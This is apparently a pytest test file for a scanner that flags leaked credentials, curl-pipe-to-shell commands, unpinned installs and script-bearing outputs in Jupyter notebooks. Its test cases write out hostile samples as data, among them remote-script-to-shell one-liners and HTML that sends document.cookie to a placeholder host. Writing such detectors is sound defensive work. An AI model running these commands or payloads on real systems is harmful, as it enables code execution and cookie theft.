"""Notebooks: credentials, downloads that are run, installs that move, outputs that act."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assaymark.core.scan import FileReport
from tests.conftest import ids, look_at, severe

TOKEN = "hf_" + "kQzWvTbXyRmNpLsDfGhJcVaEuIoPxZtYwB"  # made up; has the form of a real one
HEX = "9f3c1a7e5b2d8046c1f09a3e7d5b2c8461e0f9a3"


def notebook(*cells: dict, **extra) -> bytes:
    document = {"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **extra}
    return json.dumps(document, indent=1).encode()


def code(source: str, *outputs: dict) -> dict:
    lines = source.splitlines(keepends=True)
    return {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": list(outputs), "source": lines}


def stream(text: str) -> dict:
    return {"name": "stdout", "output_type": "stream", "text": text.splitlines(keepends=True)}


def shows(**data: str) -> dict:
    return {"output_type": "display_data", "metadata": {}, "data": {k.replace("__", "/"): v for k, v in data.items()}}


def found(*cells: dict) -> FileReport:
    return look_at(notebook(*cells), "train.ipynb")


# --- TLG001


@pytest.mark.parametrize(
    "source",
    [
        f"login(token='{TOKEN}')",
        f"import os\nos.environ['WANDB_API_KEY'] = '{HEX}'",
        f"%env WANDB_API_KEY={HEX}",
        f"!wandb login {HEX}",
        f"wandb.login(key='{HEX}')",
        f"!export API_SECRET={HEX} && make",
        "client = connect('postgresql://ml:Tr0ub4dor3xx@db.internal/x')",
        "db_password = 'Tr0ub4dor3xx'",
    ],
)
def test_tlg001_bad_source(source: str) -> None:
    (finding,) = found(code("x = 1"), code(source)).findings
    assert finding.id == "TLG001"
    assert "cell 2" in finding.message
    for secret in (TOKEN, HEX, "Tr0ub4dor3xx"):
        assert secret not in finding.message + finding.excerpt


@pytest.mark.parametrize(
    "output",
    [
        stream(f"logged in with {TOKEN}\n"),
        stream(f"HOME=/root\nSECRET_TOKEN={HEX}\n"),
        shows(text__plain=f"{{'HF_TOKEN': '{TOKEN}'}}"),
        shows(text__html=f"<td>{TOKEN}</td>"),
        {"output_type": "error", "ename": "E", "evalue": "", "traceback": [f"https://user:{HEX}@host.example/x"]},
    ],
)
def test_tlg001_bad_output(output: dict) -> None:
    report = found(code("run()", output))
    assert ids(report) == {"TLG001"}
    assert "output of cell 1" in report.findings[0].message


def test_tlg001_bad_other_places() -> None:
    assert ids(found({"cell_type": "markdown", "metadata": {}, "source": f"Use {TOKEN}"})) == {"TLG001"}
    held = notebook(code("1"), metadata={"papermill": {"parameters": {"api_token": HEX}}})
    assert ids(look_at(held, "a.ipynb")) == {"TLG001"}
    old = {
        "worksheets": [{"cells": [{"cell_type": "code", "input": [f"t = '{TOKEN}'"], "outputs": []}]}],
        "nbformat": 3,
    }
    assert ids(look_at(json.dumps(old).encode(), "a.ipynb")) == {"TLG001"}


def test_tlg001_bad_line_is_that_of_the_file() -> None:
    data = notebook(code("x = 1\ny = 2"), code(f"a = 1\ntoken = '{TOKEN}'\n"))
    (finding,) = look_at(data, "a.ipynb").findings
    assert TOKEN in data.decode().splitlines()[finding.where.line - 1]


@pytest.mark.parametrize(
    "source",
    [
        "token = os.environ['HF_TOKEN']",
        "login(token='hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx')",
        "password = getpass.getpass()",
        "api_key = 'YOUR_API_KEY'",
        "tokenizer.pad_token = tokenizer.eos_token\nmask_token = '<mask>'",
        "commit = '9f3c1a7e5b2d8046c1f09a3e7d5b2c8461e0f9a3'",
        "password = 'password'",
    ],
)
def test_tlg001_good_source(source: str) -> None:
    assert not found(code(source, stream("loss 0.1 acc 0.9\n"))).findings


# --- TLG002, TLG004


@pytest.mark.parametrize(
    "source",
    [
        "!curl -fsSL https://x.example/i.sh | sh",
        "!wget -qO- https://x.example/i.sh | sudo -E bash -s -- -y",
        "%%bash\nset -e\ncurl https://x.example/i.sh \\\n  | bash",
        "!bash <(curl -s https://x.example/i.sh)",
        '!sh -c "$(curl -fsSL https://x.example/i.sh)"',
        "!curl https://x.example/i.py | python3 -",
        "import os\nos.system('curl https://x.example/i.sh | sh')",
        "import subprocess\nsubprocess.run('wget -qO- https://x.example | bash', shell=True)",
        "get_ipython().system('curl x.example | sh')",
        "out = !curl https://x.example/i.sh | sh",
    ],
)
def test_tlg002_bad_cell(source: str) -> None:
    assert ids(found(code(source))) == {"TLG002"}


@pytest.mark.parametrize(
    "source",
    [
        "!curl -fsSLO https://x.example/data.tar.gz",
        "!curl https://x.example/a.tar.gz | tar xz",
        "!curl https://x.example/a.json | python -m json.tool",
        "!curl https://x.example/a.json | jq .",
        "!echo 'curl https://x.example | sh'",
        "# !curl https://x.example | sh",
        "print('curl https://x.example | sh')",
        "!cat install.sh | sh",
        "!wget https://x.example/a.zip && unzip a.zip || echo sh",
    ],
)
def test_tlg002_good_cell(source: str) -> None:
    assert not severe(found(code(source)))


@pytest.mark.parametrize(
    ("source", "address"),
    [
        ("!pip install -q git+https://github.com/o/r.git", "git+https://github.com/o/r.git"),
        ("%pip install git+https://github.com/o/r@main", "git+https://github.com/o/r@main"),
        (
            "!python -m pip install --upgrade https://x.example/p-1.0-py3-none-any.whl",
            "https://x.example/p-1.0-py3-none-any.whl",
        ),
        ("!uv pip install 'p @ git+ssh://git@github.com/o/r'", "git+ssh://git@github.com/o/r"),
    ],
)
def test_tlg004_bad_install(source: str, address: str) -> None:
    (finding,) = found(code(source)).findings
    assert (finding.id, finding.where.symbol) == ("TLG004", address)


@pytest.mark.parametrize(
    "source",
    [
        "%pip install torch==2.5.0 transformers",
        "!pip install torch --index-url https://download.pytorch.org/whl/cpu",
        f"!pip install git+https://github.com/o/r@{HEX}",
        f"!pip install https://x.example/p.whl#sha256={'ab' * 32}",
        "!pip install -r requirements.txt  # see https://x.example",
        "!git clone https://github.com/o/r",
    ],
)
def test_tlg004_good_install(source: str) -> None:
    assert not found(code(source)).findings


# --- TLG003


@pytest.mark.parametrize(
    "output",
    [
        shows(application__javascript="IPython.notebook.kernel.execute('import os; os.system(\"id\")')"),
        shows(text__html="<script>new Image().src = 'https://x.example/?c=' + document.cookie</script>"),
        shows(text__html="<script>eval(atob('YWxlcnQoMSk='))</script>"),
        shows(text__html="<img src=x onerror=\"fetch('https://x.example')\">"),
        shows(text__html="<script src='https://x.example/a.js'></script>"),
        shows(image__svg="<svg/>", text__html="<iframe src='javascript:alert(1)'></iframe>"),
        shows(**{"image/svg+xml": '<svg onload="alert(1)"></svg>'}),
        shows(text__html="<script>fetch('https://x.example', {method: 'POST'})</script>"),
    ],
)
def test_tlg003_bad_output(output: dict) -> None:
    assert ids(found(code("show()", output))) == {"TLG003"}


@pytest.mark.parametrize(
    "output",
    [
        shows(
            text__html="<div><script src='https://cdn.plot.ly/plotly-2.35.0.min.js'></script><script>Plotly.newPlot('a', [])</script></div>"
        ),
        shows(
            application__javascript="(function(root) { root._bokeh_onload_callbacks = []; cell.notebook.kernel.execute(cmd_clean, {}); })(window);"
        ),
        shows(
            text__html="<style>.dataframe tbody td {}</style><table><tr><td onclick='sort(this)'>x</td></tr></table>"
        ),
        shows(
            text__html="<button onclick=\"convertToInteractive('df-1')\"></button><script>async function f(k) { await google.colab.kernel.invokeFunction(k, [], {}); }</script>"
        ),
        shows(text__html="<iframe src='about:blank' onload=\"this.contentDocument.open();\"></iframe>"),
        shows(text__plain="<script>document.cookie</script>"),
        shows(image__png="iVBORw0KGgo="),
    ],
)
def test_tlg003_good_output(output: dict) -> None:
    assert not found(code("show()", output)).findings


# --- any bytes


@pytest.mark.parametrize(
    "data",
    [b"", b"{}", b"[]", b'{"cells": 1}', b'{"cells": [1]}', b"\xff", b"[" * 99_999, b'{"cells": [' + b"9" * 5000],
)
def test_broken_notebook_is_held(data: bytes) -> None:
    assert any(f.holds for f in look_at(data, "a.ipynb").findings)


def test_truncated_notebook_is_held_at_every_byte() -> None:
    data = notebook(code("print(1)", stream("1\n")))
    for end in range(1, len(data)):
        assert any(f.holds for f in look_at(data[:end], "a.ipynb").findings), end


_SEED = notebook(code(f"!curl x | sh\ntoken = '{TOKEN}'", stream("x"), shows(text__html="<script>x</script>")))


@given(st.binary(max_size=20), st.integers(0, len(_SEED)), st.integers(0, 30))
@settings(max_examples=80, deadline=None)
def test_any_notebook_gives_a_report(noise: bytes, at: int, cut: int) -> None:
    assert "CHK001" not in ids(look_at(_SEED[:at] + noise + _SEED[at + cut :], "a.ipynb"))


@given(
    st.recursive(
        st.none() | st.integers() | st.text(max_size=5),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(
                st.sampled_from(
                    [
                        "cells",
                        "source",
                        "outputs",
                        "data",
                        "text",
                        "text/html",
                        "output_type",
                        "cell_type",
                        "metadata",
                        "worksheets",
                    ]
                ),
                inner,
                max_size=4,
            )
        ),
        max_leaves=15,
    )
)
@settings(max_examples=80, deadline=None)
def test_any_json_gives_a_report(value: object) -> None:
    assert "CHK001" not in ids(look_at(json.dumps(value).encode(), "a.ipynb"))


def test_lines_that_almost_run_a_command_take_linear_time() -> None:
    for line in (" " * 400_000 + "x", "a, " * 200_000 + "x", " a = " + " " * 400_000 + "x"):
        assert not look_at(notebook(code(line)), "n.ipynb").findings


@pytest.mark.parametrize("lead", ["!", "  !", "out = !", "a, b = !", "out=!!", "%sx ", "x = %system "])
def test_tlg002_bad_however_the_command_is_led_in(lead: str) -> None:
    assert "TLG002" in ids(look_at(notebook(code(f"{lead}curl https://x.example/i | sh")), "n.ipynb"))


def test_addresses_that_almost_have_a_hash_take_linear_time() -> None:
    source = "!pip install git+https://x.example/r" + "#" * 300_000
    assert ids(look_at(notebook(code(source)), "n.ipynb")) == {"TLG004"}
